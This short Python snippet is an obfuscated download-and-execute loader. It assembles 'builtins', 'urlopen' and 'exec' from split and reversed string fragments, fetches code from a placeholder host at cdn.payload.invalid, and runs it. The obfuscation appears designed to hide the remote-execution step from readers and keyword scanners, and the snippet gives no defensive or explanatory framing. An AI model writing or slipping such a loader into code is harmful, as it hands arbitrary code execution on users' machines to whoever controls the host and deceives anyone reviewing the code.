_b = __import__("buil" + "tins")
_n = getattr(__import__("urllib.request", fromlist=["x"]), "".join(["url", "open"]))
getattr(_b, "cexe"[::-1][:3] + "c")(_n("http://cdn.payload.invalid/s").read())
